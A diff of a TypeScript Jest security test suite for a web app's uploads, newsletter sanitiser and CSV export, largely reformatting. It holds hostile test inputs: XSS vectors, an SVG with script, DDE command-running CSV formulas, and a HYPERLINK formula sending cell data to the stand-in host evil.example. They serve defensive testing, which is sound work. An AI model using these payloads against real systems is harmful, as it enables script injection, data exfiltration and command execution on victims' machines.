@@ -18,10 +18,7 @@ jest.setTimeout(120_000);
 
 type Form = FileForm;
 
-const FORMS: Form[] = [
-  ...contentFileForms(CONTENT_TYPES),
-  { path: '/api/admin/uploads', field: 'file', valid: {}, good: [PDF, 'any.pdf'], admin: true, references: {} },
-];
+const FORMS: Form[] = contentFileForms(CONTENT_TYPES);
 
 const EXE = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(200, 0x90)]);
 const SVG = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>');
@@ -100,15 +97,27 @@ const NEWSLETTER_VECTORS = [
   '<scr<script>ipt>alert(1)</scr</script>ipt>',
 ];
 /** What a sanitised newsletter never contains. */
-const UNSAFE_HTML = /<(script|iframe|object|embed|svg|style|form|input|meta|base|link|math|body|noscript)\b|\son[a-z]+\s*=|javascript:|vbscript:|data:text\/html|&#106;/i;
+const UNSAFE_HTML =
+  /<(script|iframe|object|embed|svg|style|form|input|meta|base|link|math|body|noscript)\b|\son[a-z]+\s*=|javascript:|vbscript:|data:text\/html|&#106;/i;
 
 const FORMULA_STARTS = ['=', '+', '-', '@', '\t', '\r'];
-const FORMULA_PAYLOADS = ['cmd|\' /C calc\'!A0', 'HYPERLINK("http://evil.example/?x="&A1,"open")', 'SUM(1+1)*cmd|\' /C notepad\'!A1'];
+const FORMULA_PAYLOADS = [
+  "cmd|' /C calc'!A0",
+  'HYPERLINK("http://evil.example/?x="&A1,"open")',
+  "SUM(1+1)*cmd|' /C notepad'!A1",
+];
 
 describeApi('hostile files, newsletters and CSV', () => {
   let t: TestApp;
   let token: string;
-  const sent = { uploadLies: 0, oversizeFiles: 0, multipartCaps: 0, traversals: 0, newsletterVectors: 0, csvFormulas: 0 };
+  const sent = {
+    uploadLies: 0,
+    oversizeFiles: 0,
+    multipartCaps: 0,
+    traversals: 0,
+    newsletterVectors: 0,
+    csvFormulas: 0,
+  };
   const auth = () => ({ Authorization: `Bearer ${token}` });
   const uploadsNow = () => {
     try {
@@ -123,7 +132,10 @@ describeApi('hostile files, newsletters and CSV', () => {
     t = await createTestApp();
     token = await loginToken(t);
     // A corrigendum's form needs a tender that exists.
-    await withReferencedRecords(FORMS, async (path, body) => (await t.http().post(path).set(auth()).send(body).expect(201)).body.data.id);
+    await withReferencedRecords(
+      FORMS,
+      async (path, body) => (await t.http().post(path).set(auth()).send(body).expect(201)).body.data.id,
+    );
   });
   afterAll(async () => {
     process.stdout.write(`hostile files sent: ${JSON.stringify(sent)}\n`);
@@ -131,7 +143,13 @@ describeApi('hostile files, newsletters and CSV', () => {
   });
 
   const submit = (form: Form, file?: [Buffer, string, string | undefined]) => {
-    const req = fields(t.http().post(form.path).set(form.admin ? auth() : {}), form.valid);
+    const req = fields(
+      t
+        .http()
+        .post(form.path)
+        .set(form.admin ? auth() : {}),
+      form.valid,
+    );
     if (!file) return req;
     const [buf, filename, contentType] = file;
     return req.attach(form.field, buf, contentType ? { filename, contentType } : { filename });
@@ -145,7 +163,8 @@ describeApi('hostile files, newsletters and CSV', () => {
         // Study materials take office files: a zip named .docx is still no Word document.
         const res = await submit(form, [buf, name, type]);
         sent.uploadLies += 1;
-        if (res.status !== 400 || ![UPLOAD.invalid, UPLOAD.invalidType].includes(res.body.message)) accepted.push(`${form.path} ${label}: ${res.status} ${res.body.message}`);
+        if (res.status !== 400 || ![UPLOAD.invalid, UPLOAD.invalidType].includes(res.body.message))
+          accepted.push(`${form.path} ${label}: ${res.status} ${res.body.message}`);
       }
     }
     expect(accepted).toEqual([]);
@@ -161,13 +180,23 @@ describeApi('hostile files, newsletters and CSV', () => {
       // Still a whole file of its kind: a PDF gets a long comment after its first line.
       const pad = Buffer.alloc(5 * 1024 * 1024 + 1, 0x20);
       const cut = buf === PDF ? PDF.indexOf('\n') + 1 : buf.length;
-      const big = Buffer.concat([buf.subarray(0, cut), buf === PDF ? Buffer.concat([Buffer.from('%'), pad, Buffer.from('\n')]) : pad, buf.subarray(cut)]);
+      const big = Buffer.concat([
+        buf.subarray(0, cut),
+        buf === PDF ? Buffer.concat([Buffer.from('%'), pad, Buffer.from('\n')]) : pad,
+        buf.subarray(cut),
+      ]);
       const res = await submit(form, [big, name, undefined]);
       sent.oversizeFiles += 1;
       expect({ path: form.path, status: res.status, body: res.body }).toEqual({
         path: form.path,
         status: 413,
-        body: { success: false, statusCode: 413, error: UPLOAD.tooLarge, message: UPLOAD.tooLarge, details: withRequestId() },
+        body: {
+          success: false,
+          statusCode: 413,
+          error: UPLOAD.tooLarge,
+          message: UPLOAD.tooLarge,
+          details: withRequestId(),
+        },
       });
     }
     expect(uploadsNow()).toBe(before);
@@ -177,18 +206,38 @@ describeApi('hostile files, newsletters and CSV', () => {
     const form = FORMS[0];
     const table = CONTENT_TYPES.find((d) => form.path === `/api/admin/${d.path}`)!.table;
     const rowsBefore = await count(table);
-    const tooManyFields = fields(t.http().post(form.path).set(auth()), Object.fromEntries(Array.from({ length: 41 }, (_, i) => [`f${i}`, 'x'])));
-    const hugeField = fields(t.http().post(form.path).set(auth()), { ...form.valid, title: 'x'.repeat(200 * 1024 + 1) });
-    for (const [label, req] of [['fields', tooManyFields], ['field size', hugeField]] as const) {
+    const tooManyFields = fields(
+      t.http().post(form.path).set(auth()),
+      Object.fromEntries(Array.from({ length: 41 }, (_, i) => [`f${i}`, 'x'])),
+    );
+    const hugeField = fields(t.http().post(form.path).set(auth()), {
+      ...form.valid,
+      title: 'x'.repeat(200 * 1024 + 1),
+    });
+    for (const [label, req] of [
+      ['fields', tooManyFields],
+      ['field size', hugeField],
+    ] as const) {
       const res = await req;
       sent.multipartCaps += 1;
-      expect({ label, status: res.status, message: res.body.message }).toEqual({ label, status: 413, message: HTTP_ERRORS.payloadTooLarge });
-      expect(res.body).toEqual({ success: false, statusCode: 413, error: HTTP_ERRORS.payloadTooLarge, message: HTTP_ERRORS.payloadTooLarge, details: withRequestId() });
+      expect({ label, status: res.status, message: res.body.message }).toEqual({
+        label,
+        status: 413,
+        message: HTTP_ERRORS.payloadTooLarge,
+      });
+      expect(res.body).toEqual({
+        success: false,
+        statusCode: 413,
+        error: HTTP_ERRORS.payloadTooLarge,
+        message: HTTP_ERRORS.payloadTooLarge,
+        details: withRequestId(),
+      });
     }
     const twoFiles = await submit(form).attach(form.field, PNG, 'a.png').attach(form.field, PNG, 'b.png');
     const otherField = await submit(form).attach('elsewhere', PNG, 'a.png');
     sent.multipartCaps += 2;
-    for (const res of [twoFiles, otherField]) expect({ status: res.status, message: res.body.message }).toEqual({ status: 400, message: UPLOAD.invalid });
+    for (const res of [twoFiles, otherField])
+      expect({ status: res.status, message: res.body.message }).toEqual({ status: 400, message: UPLOAD.invalid });
     expect(await count(table)).toBe(rowsBefore);
   });
 
@@ -204,7 +253,11 @@ describeApi('hostile files, newsletters and CSV', () => {
 
   it('sanitises every script vector out of an HTML newsletter, as stored and as the public page gets it', async () => {
     for (const vector of NEWSLETTER_VECTORS) {
-      const res = await t.http().post('/api/admin/newsletter/send').set(auth()).send({ subject: 'Vector test', content: `<p>Safe text</p>${vector}` });
+      const res = await t
+        .http()
+        .post('/api/admin/newsletter/send')
+        .set(auth())
+        .send({ subject: 'Vector test', content: `<p>Safe text</p>${vector}` });
       sent.newsletterVectors += 1;
       expect(res.status).toBe(201);
       const stored = res.body.data.content as string;
@@ -221,12 +274,23 @@ describeApi('hostile files, newsletters and CSV', () => {
       for (const payload of FORMULA_PAYLOADS) {
         const cell = `${start}${payload}`;
         n += 1;
-        await t.http().post('/api/newsletter/subscribe').send({ name: cell, email: `f${n}@example.org`, type: 'Public' }).expect(201);
+        await t
+          .http()
+          .post('/api/newsletter/subscribe')
+          .send({ name: cell, email: `f${n}@example.org`, type: 'Public' })
+          .expect(201);
         await t
           .http()
           .post('/api/admin/diksha-lab/trainee')
           .set(auth())
-          .send({ teacherName: cell, employeeId: `${start}EMP-${n}`, totalHours: 1, completedCourses: 0, progress: 0, certificates: [cell] })
+          .send({
+            teacherName: cell,
+            employeeId: `${start}EMP-${n}`,
+            totalHours: 1,
+            completedCourses: 0,
+            progress: 0,
+            certificates: [cell],
+          })
           .expect(201);
         sent.csvFormulas += 2;
       }
